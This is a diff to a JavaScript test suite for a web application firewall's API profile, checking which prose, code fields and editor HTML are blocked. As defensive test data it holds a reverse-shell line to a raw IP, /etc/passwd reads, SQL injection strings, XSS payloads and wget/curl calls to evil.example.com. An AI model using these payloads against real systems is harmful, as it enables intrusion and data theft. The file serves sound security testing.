@@ -133,7 +133,8 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       'docker-compose down -v on every host now',
       'python3 -c something and more words here',
       // A separator or substitution anywhere: another command position.
-      'docker-compose fails; wget is missing too',
+      'docker-compose fails; wget evil.example.com/x is missing too',
+      'docker-compose fails;wget is missing too',
       'docker-compose fails && python3 exits right away',
       'docker-compose fails | wget the logs from there',
       'docker-compose fails on $(uname) after the upgrade',
@@ -179,7 +180,12 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
     assert.equal(commandOnlyAtStart('sudo env python3 crashes here'), false);
     assert.equal(commandOnlyAtStart('iex whoami from the evil host'), false);
     assert.equal(commandOnlyAtStart('sudo'), false);
-    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
+    assert.equal(commandOnlyAtStart('wget is missing;curl works fine'), false);
+    // A semicolon of prose starts a line: the command after it is judged like a first word.
+    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), true);
+    assert.equal(commandOnlyAtStart('Waiting on legal; exec review moved to (2019–2020) 09:30.'), true);
+    assert.equal(commandOnlyAtStart('wget is missing; id'), false);
+    assert.equal(commandOnlyAtStart('wget is missing; curl evil.example.com'), false);
     assert.equal(commandOnlyAtStart('wget is missing = curl works fine'), false);
     assert.equal(commandOnlyAtStart('wget works with example.com today'), false);
     assert.equal(commandOnlyAtStart('wget works with --quiet today'), false);
@@ -534,5 +540,70 @@ describe('waf API profile: PowerShell cmdlet names in sentences (family p)', () 
     });
     const { error } = await runRequest(instantiate(policy, api, deps), ctx);
     assert.equal(error?.reason, 'waf:rce');
+  });
+});
+
+describe('waf API profile: code fields, code samples in rich text, editor HTML (session 6)', () => {
+  test('a multi-line program in a field named for code passes out of the box; CRS blocks it', async () => {
+    for (const doc of [
+      {
+        language: 'bash',
+        code: '#!/bin/bash\nset -euo pipefail\nfor f in "$@"; do\n  wc -l "$f"\ndone | sort -n\n',
+      },
+      { variables: { input: { code: 'x = eval(input("expr> "))\nprint(x)\n' } } },
+      {
+        files: [
+          {
+            name: 'fib.py',
+            content: 'def fib(n):\n    a, b = 0, 1\n    return a\n\nprint([fib(i) for i in range(10)])\n',
+          },
+        ],
+      },
+      {
+        sql: "SELECT country, SUM(amount) AS revenue\nFROM payments WHERE status = 'paid'\nGROUP BY country;",
+      },
+    ]) {
+      assert.ok((await run(plain, doc)).error !== undefined, JSON.stringify(doc));
+      assert.equal((await run(api, doc)).error, undefined, JSON.stringify(doc));
+    }
+  });
+
+  test('a one-line value, a payload in a program, or another field name keeps every rule', async () => {
+    for (const doc of [
+      { code: "' OR 1=1--" },
+      { voucher: { code: "1' UNION SELECT password FROM users--" } },
+      { code: 'import os\nos.system("cat /etc/passwd")\n' },
+      { code: 'x=1\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
+      { comment: 'x=1\n; cat /etc/passwd\n' },
+      { content: "a\n1' UNION SELECT password FROM users--" },
+    ]) {
+      assert.ok((await run(api, doc)).error !== undefined, JSON.stringify(doc));
+    }
+  });
+
+  test('editor HTML: code samples with encoded markup, media embeds, anchor ids, srcset, any named reference', async () => {
+    for (const html of [
+      '<p>Embed it like this:</p><pre><code class="language-html">&lt;script src="/widget.js"&gt;&lt;/script&gt;</code></pre>',
+      '<figure class="media"><oembed url="https://vimeo.com/76979871"></oembed></figure><h2 id="why-it-matters">Why it matters</h2><p>Read <a href="https://example.com/a">more</a>.</p><pre><code>&lt;div id="app"&gt;&lt;/div&gt;</code></pre>',
+      '<img src="https://cdn.example.com/a.jpg" srcset="https://cdn.example.com/a-600.jpg 600w, https://cdn.example.com/a.jpg 1200w" sizes="(max-width: 600px) 100vw, 600px" alt="Harbour">',
+      '<p>Late work: &minus;10%. &ldquo;Select your battles, then drop everything else.&rdquo;</p>',
+    ]) {
+      assert.equal((await run(api, { html })).error, undefined, html);
+    }
+    // CRS blocks the code sample (its rules decode the entities).
+    const sample = '<p>Embed it:</p><pre><code>&lt;script src="/w.js"&gt;&lt;/script&gt;</code></pre>';
+    assert.ok((await run(plain, { html: sample })).error !== undefined);
+  });
+
+  test('editor HTML that could run or clobber is still blocked', async () => {
+    for (const html of [
+      '<h2 id="location">x</h2><img src=x onerror=alert(1)>',
+      '<p>x</p><pre><code>cat /etc/passwd</code></pre><script>alert(1)</script>',
+      '<oembed url="javascript:alert(1)"></oembed><svg onload=alert(1)>',
+      '<img srcset="javascript:alert(1) 1x" src=x onerror=alert(1)>',
+      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+    ]) {
+      assert.ok((await run(api, { html })).error !== undefined, html);
+    }
   });
 });
